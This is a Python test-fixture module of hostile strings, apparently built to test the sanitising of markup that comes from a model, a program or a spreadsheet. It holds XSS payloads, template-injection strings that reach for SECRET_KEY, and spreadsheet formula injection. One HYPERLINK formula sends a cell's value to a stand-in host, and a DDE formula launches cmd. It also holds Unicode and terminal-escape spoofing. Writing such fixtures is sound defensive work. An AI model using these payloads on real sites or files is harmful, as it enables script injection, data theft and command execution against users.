"""Hostile outputs of a model, another program or a spreadsheet, which contain markup.

Scripts in them call `hostile()`; elements in them have the attribute `data-hostile`.
"""

from __future__ import annotations

MARKUP = {
    "a script": "<script data-hostile>hostile(1)</script>",
    "a script that opens a dialog": "<script data-hostile>alert(1)</script>",
    "a script from elsewhere": "<script data-hostile src=//stranger.test/x.js></script>",
    "a module": "<script data-hostile type=module>import('data:text/javascript,hostile(1)')</script>",
    "a script in capitals": "<SCRIPT DATA-HOSTILE>hostile(1)</SCRIPT>",
    "the end of a script": "</script><script data-hostile>hostile(1)</script>",
    "the end of a text area": "</textarea><img data-hostile src=x onerror=hostile(1)>",
    "the end of a title": "</title><img data-hostile src=x onerror=hostile(1)>",
    "the end of a style": "</style><img data-hostile src=x onerror=hostile(1)>",
    "the end of preformatted text": "</pre></div></main><img data-hostile src=x onerror=hostile(1)>",
    "the end of a table": "</td></tr></table><img data-hostile src=x onerror=hostile(1)>",
    "an option": "</option></select><option data-hostile selected>",
    "the end of a comment": "--><img data-hostile src=x onerror=hostile(1)><!--",
    "the end of CDATA": "]]><img data-hostile src=x onerror=hostile(1)>",
    "an image": "<img data-hostile src=x onerror=hostile(1)>",
    "an image with slashes": "<img/data-hostile/src=x/onerror=hostile(1)>",
    "an image of a stranger": "<img data-hostile src=http://stranger.test/pixel.gif>",
    "a body": "<body data-hostile onload=hostile(1)>",
    "something that has focus": "<input data-hostile autofocus onfocus=hostile(1)>",
    "details that open": "<details data-hostile open ontoggle=hostile(1)>",
    "an animation": "<style>@keyframes x{}</style><b data-hostile style=animation-name:x onanimationstart=hostile(1)>",
    "SVG": "<svg data-hostile onload=hostile(1)><script>hostile(1)</script></svg>",
    "SVG that animates a link": "<svg data-hostile><a><animate attributeName=href values=javascript:hostile(1) /></a>",
    "a foreign object": "<svg data-hostile><foreignObject><iframe srcdoc='<script>hostile(1)</script>'>",
    "MathML": "<math data-hostile><mtext><table><mglyph><style><img src=x onerror=hostile(1)>",
    "MathML with a link": "<math data-hostile href=javascript:hostile(1)>click</math>",
    "a frame": "<iframe data-hostile src=javascript:hostile(1)></iframe>",
    "a frame with a document": "<iframe data-hostile srcdoc='<script>hostile(1)</script>'></iframe>",
    "an object": "<object data-hostile data=javascript:hostile(1)></object>",
    "a form": "<form data-hostile action=//stranger.test><button>Confirm</button></form>",
    "a button with an address": "<button data-hostile formaction=javascript:hostile(1)>Submit to Claude</button>",
    "a link": "<a data-hostile href='javascript:hostile(1)'>click</a>",
    "a base": "<base data-hostile href=//stranger.test/>",
    "a refresh": "<meta data-hostile http-equiv=refresh content=0;url=//stranger.test/>",
    "a style sheet": "<link data-hostile rel=stylesheet href=//stranger.test/x.css>",
    "a style": "<style data-hostile>* { display: none }</style>",
    "a template's element": "<template data-hostile><img src=x onerror=hostile(1)></template>",
    "a custom element": "<x-y data-hostile is=x-z></x-y>",
}

ATTRIBUTES = {
    "double quotes": '"><img data-hostile src=x onerror=hostile(1)>',
    "single quotes": "'><img data-hostile src=x onerror=hostile(1)>",
    "an attribute in double quotes": '" data-hostile autofocus onfocus="hostile(1)',
    "an attribute in single quotes": "' data-hostile autofocus onfocus='hostile(1)",
    "an attribute without quotes": " data-hostile autofocus onfocus=hostile(1) x=",
    "backticks": "`><img data-hostile src=x onerror=hostile(1)>`",
    "an address": "javascript:hostile(1)//",
    "an address with a tab": "java\tscript:hostile(1)",
    "an address of data": "data:text/html,<script>hostile(1)</script>",
}

CODE = {
    "markup for who takes markup away": "<scr<script>ipt data-hostile>hostile(1)</scr</script>ipt>",
    "a template's variable": "{{ settings.SECRET_KEY }} {{ 7|add:7 }}",
    "a template's tag": "{% debug %}{% load static %}{% include 'admin/base.html' %}",
    "another template's expression": "{{constructor.constructor('hostile(1)')()}} ${hostile(1)} #{hostile(1)}",
    "a format": "%(batch)s %s %d {0} {batch.__class__} {stored}",
    "a quotation in a script": "'-hostile(1)-' \"-hostile(1)-\" `-hostile(1)-`",
    "an escaped script": "\\u003cscript data-hostile\\u003ehostile(1)\\u003c/script\\u003e",
    "entities": "&lt;img data-hostile src=x onerror=hostile(1)&gt; &#60;script&#62;hostile(1)&#x3c;/script&#x3e;",
    "an address in percent": "%3Cscript%20data-hostile%3Ehostile(1)%3C/script%3E",
    "UTF-7": "+ADw-script data-hostile+AD4-hostile(1)+ADw-/script+AD4-",
    "Markdown": "[click](javascript:hostile(1)) ![x](http://stranger.test/pixel.gif)",
    "a formula": '=HYPERLINK("http://stranger.test/?x="&A1,"click")',
    "a formula of a program": "@SUM(1+1)*cmd|' /C calc'!A0",
}

LOOKS = {
    "right to left": "\u202egpj.exe\u202c \u2066\u2067abc",
    "terminal colors": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "bells and backspaces": "a\x08\x08\x7f\x07\x0bb\x0cc",
    "line separators": "a\u2028b\u2029c\x85d",
    "nothing to see": "\u200b\u200d\ufeff\u00ad",
    "marks on marks": "e" + "\u0301" * 200,
    "an end of input": "\x1a\x04",
    "full-width markup": "\uff1cscript data-hostile\uff1ehostile(1)\uff1c/script\uff1e",
}

OUTPUTS = MARKUP | ATTRIBUTES | CODE | LOOKS

# One line of 1 MB without a place for a line break.
LONG = "<b data-hostile>" + "x" * 1_000_000
